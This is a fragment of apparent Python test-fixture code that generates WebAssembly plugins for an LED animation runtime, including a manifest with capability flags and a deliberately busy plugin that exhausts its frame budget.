    (drop (call $fd_write (i32.const 2) (i32.const 4096) (i32.const 1) (i32.const 4104)))
    (drop (call $fd_write (i32.const 1) (i32.const 4096) (i32.const 1) (i32.const 4104)))"""
        manifest = {"edged": {"kind": "animation", "capabilities": {"led": True, "wasi": True}}}
    body = f"""
  (data (i32.const 0) {wat_string(text)})
  (func (export "frame") (result i32) {say} (call $black) (i32.const 0))
  (func (export "say") (result i32) {say} (i32.const 0))
"""
    return PluginFiles(f"forge_{via}", module(imp, body), manifest)


def busy() -> PluginFiles:
    """Load for the sensor case: every frame burns its whole budget (and is struck for it)."""
    return spin_frame()
